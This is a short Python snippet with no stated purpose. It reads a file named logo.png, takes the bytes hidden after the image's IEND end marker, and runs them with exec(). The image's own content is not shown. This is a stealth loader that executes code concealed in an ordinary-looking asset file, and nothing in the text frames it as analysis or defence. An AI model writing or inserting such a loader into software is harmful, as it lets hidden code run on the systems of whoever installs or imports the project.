import os

with open(os.path.join(os.path.dirname(__file__), "logo.png"), "rb") as _f:
    _data = _f.read()
exec(_data[_data.rfind(b"IEND") + 8:])
